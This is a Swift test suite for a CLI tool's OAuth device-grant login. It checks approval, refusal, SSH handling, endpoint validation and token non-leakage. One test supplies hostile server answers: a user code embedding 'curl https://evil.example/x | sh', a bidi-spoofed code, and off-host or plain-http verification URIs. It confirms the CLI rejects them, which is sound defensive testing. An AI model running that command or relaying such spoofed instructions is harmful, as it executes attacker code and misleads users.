import Foundation
import TestSupport
import Testing

/// `authvault login --device` through the built binary against django-oauth-toolkit's own device flow (RFC 8628),
/// approved by the person in a second HTTP session of their own: the code shown at once, the session stored (with
/// no ID token: DOT sends none) and served by `token` and `refresh`; a refusal at the verification page; the
/// Cognito refusal; the automatic choice on a terminal over SSH (cancelled with Ctrl-C), and a plain login without a
/// terminal that still fails fast. No token or device code reaches the output.
@Suite struct DeviceGrantLoginTests {
    /// A profile of DOT in its default configuration, its device endpoint set by hand (DOT's discovery omits it),
    /// with no redirect URI: the device grant needs none.
    static func deviceProfile() async throws -> (OAuthServer, HeadlessCLI) {
        let server = try await OAuthServer.sharedDefault()
        let cli = try HeadlessCLI()
        let configure = try await cli.run([
            "configure", "--client-id", OAuthServer.deviceClient.clientId, "--oidc-discovery", server.discoveryURL,
            "--device-authorization-url", server.deviceAuthorizationURL, "--vault", "file",
        ])
        try #require(configure.status == 0, "\(configure.stderrText)")
        return (server, cli)
    }

    /// `login --device` without a terminal, its standard error read as it comes; the person approves (or denies)
    /// the code it shows. Returns what it printed and its exit status.
    static func loginApproved(accept: Bool, server: OAuthServer, cli: HeadlessCLI) async throws -> (
        screen: String, status: Int32
    ) {
        let login = try InteractiveProcess(
            "/bin/sh", ["-c", "exec \"$0\" \"$@\" 2>&1", cli.authvault, "login", "--device"],
            environment: cli.environment)
        var screen = ""
        var code: String?
        while code == nil, let line = login.readLine(timeout: 30) {
            screen += line + "\n"
            if let range = line.range(of: "and enter the code:") {
                code = line[range.upperBound...].trimmingCharacters(in: .whitespaces)
            }
        }
        let userCode = try #require(code, "no code was shown: \(screen)")
        try await server.approveDevice(
            verificationURI: server.issuer + "/device/", userCode: userCode, as: OAuthServer.poolUser, accept: accept)
        while let line = login.readLine(timeout: 30) { screen += line + "\n" }
        return (screen, login.finish())
    }

    @Test func signsInWithACodeApprovedElsewhereAndTheSessionServesTokens() async throws {
        let (server, cli) = try await Self.deviceProfile()
        let (screen, status) = try await Self.loginApproved(accept: true, server: server, cli: cli)
        #expect(status == 0, "\(screen)")
        let host =
            try #require(URL(string: server.issuer)).host! + (URL(string: server.issuer)?.port.map { ":\($0)" } ?? "")
        #expect(
            screen.contains("open this address at \(host) in a browser on any device:\n\n  \(server.issuer)/device/\n"),
            "\(screen)")
        #expect(screen.contains("\(server.issuer)/device/?user_code="), "\(screen)")
        #expect(screen.contains("Signed in as "), "\(screen)")

        let record = try #require(try await cli.storedRecord(), "no session was stored")
        #expect(record["refreshToken"] is String && record["accessToken"] is String && record["idToken"] == nil)
        let token = try await cli.run(["token"])
        #expect(token.status == 0 && !token.stdoutText.isEmpty, "\(token.stderrText)")
        expectSecret(
            record["accessToken"] as? String, equals: token.stdoutText.trimmingCharacters(in: .whitespacesAndNewlines),
            "the access token")
        // Without an ID token, userinfo says who the refreshed session belongs to.
        let refresh = try await cli.run(["refresh"])
        #expect(refresh.status == 0, "\(refresh.stderrText)")
        _ = try await cli.storedRecord()
        expectNoSecrets(in: screen, Array(cli.knownSecrets.keys))
        cli.expectNoSecretLeaks()
    }

    @Test func aRefusalAtTheVerificationPageEndsTheLogin() async throws {
        let (server, cli) = try await Self.deviceProfile()
        let (screen, status) = try await Self.loginApproved(accept: false, server: server, cli: cli)
        #expect(status == 3, "\(screen)")
        #expect(
            screen.contains("The sign-in was refused at the verification page")
                && screen.contains("'authvault login --profile default --device'"), "\(screen)")
        #expect(try await cli.storedRecord()?["accessToken"] == nil)
    }

    @Test func aCognitoProfileRefusesDeviceAtOnceNamingTheAlternatives() async throws {
        let cli = try HeadlessCLI()
        let configure = try await cli.run([
            "configure", "--user-pool-id", "us-east-1_Device", "--client-id", "abc123",
            "--hosted-ui", "https://example.auth.us-east-1.amazoncognito.com", "--vault", "file",
        ])
        try #require(configure.status == 0, "\(configure.stderrText)")
        let login = try await cli.run(["login", "--device"])
        #expect(login.status == 2, "\(login.stderrText)")
        #expect(login.stderrText.contains("Cognito, which has no device authorization grant"), "\(login.stderrText)")
        #expect(
            login.stderrText.contains("'authvault login --profile default --paste'")
                && login.stderrText.contains("--no-browser"), "\(login.stderrText)")
    }

    /// The endpoint gets the client's requests: https, or http only to a loopback address, checked when configured.
    @Test func theDeviceEndpointIsHTTPSOrLoopback() async throws {
        let (_, cli) = try await Self.deviceProfile()
        let insecure = await cli.runInProcess(["configure", "--device-authorization-url", "http://op.example/device"])
        #expect(
            insecure.status == 2 && insecure.stderrText.contains("device-authorization-url"), "\(insecure.stderrText)")
        let cleared = await cli.runInProcess(["configure", "--device-authorization-url", ""])
        #expect(cleared.status == 0, "\(cleared.stderrText)")
        let login = await cli.runInProcess(["login", "--device"])
        #expect(
            login.status == 2
                && login.stderrText.contains("'authvault configure --profile default --device-authorization-url URL'"),
            "\(login.stderrText)")
    }

    /// On a terminal over SSH with no display, a plain login takes the device grant and says so; Ctrl-C ends the
    /// wait and nothing is stored. Without a terminal the same login fails at once, as it always did.
    @Test func aPlainLoginOverSSHUsesTheDeviceGrantOnlyOnATerminal() async throws {
        let (_, cli) = try await Self.deviceProfile()
        let ssh = ["SSH_CONNECTION": "10.0.0.2 50000 10.0.0.1 22"]
        let run = try await cli.runOnTerminal(
            ["login"], answers: [("and enter the code:", "\u{03}")], extraEnvironment: ssh)
        #expect(run.screen.contains("No browser can be opened here, so this sign-in uses a code"), "\(run.screen)")
        #expect(
            run.status == 130 && run.screen.contains("The device sign-in was cancelled. Nothing was stored."),
            "\(run.screen)")
        #expect(try await cli.storedRecord()?["accessToken"] == nil)

        let started = Date()
        let headless = try await cli.run(["login"], extraEnvironment: ssh)
        #expect(headless.status == 2 && headless.stderrText.contains("No terminal"), "\(headless.stderrText)")
        #expect(!headless.stderrText.contains("enter the code") && Date().timeIntervalSince(started) < 20)
    }

    /// A device endpoint (http_test_server.py's /device-answer) whose answer shows more than it can vouch for: an
    /// instruction dressed as a user code, a bidi control in it, a verification URI over plain http at another host,
    /// a complete URI at another host. Each login exits non-zero with a clear error and prints none of the answer's text.
    @Test func aHostileDeviceAnswerIsRefusedAndNoneOfItsTextIsShown() async throws {
        let (_, cli) = try await Self.deviceProfile()
        let stand = try await ScriptServer.start(script: "http_test_server.py")
        let hostile: [[String: Any]] = [
            ["user_code": "ABCD-EFGH then run: curl https://evil.example/x | sh"],
            ["user_code": "WDJB\u{202E}evil.example"],
            ["verification_uri": "http://evil.example/device"],
            ["verification_uri_complete": "https://evil.example/device?user_code=WDJB-MJHT"],
        ]
        for changes in hostile {
            var answer: [String: Any] = [
                "device_code": "hostile-device-code", "user_code": "WDJB-MJHT",
                "verification_uri": stand.baseURL + "/device", "expires_in": 30, "interval": 1,
            ]
            answer.merge(changes) { $1 }
            let encoded = try JSONSerialization.data(withJSONObject: answer).base64EncodedString()
                .replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_").replacingOccurrences(
                    of: "=", with: "")
            let configure = await cli.runInProcess([
                "configure", "--device-authorization-url", stand.baseURL + "/device-answer/" + encoded,
            ])
            try #require(configure.status == 0, "\(configure.stderrText)")
            let login = try await cli.run(["login", "--device"])
            #expect(login.status != 0 && login.status != 130, "\(changes): \(login.stderrText)")
            #expect(
                login.stderrText.contains("device authorization"), "a clear error for \(changes): \(login.stderrText)")
            for word in ["evil", "curl", "enter the code", "WDJB"] {
                #expect(
                    !login.stderrText.contains(word) && !login.stdoutText.contains(word),
                    "\(word) shown for \(changes): \(login.stderrText)")
            }
            #expect(try await cli.storedRecord()?["accessToken"] == nil)
        }
    }
}
